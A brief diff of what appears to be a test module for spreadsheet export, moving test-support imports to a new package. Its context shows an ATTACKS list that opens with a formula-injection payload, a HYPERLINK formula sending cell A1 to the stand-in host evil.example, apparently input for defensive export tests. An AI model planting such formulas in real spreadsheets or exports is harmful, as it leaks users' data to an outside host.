@@ -16,8 +16,8 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from api.exports import export
 from ledger.events import Role
-from tests.api.conftest import Api, Views
-from tests.conftest import filing
+from tests.support.api import Api, Views
+from tests.support.world import filing
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"查看原文")',
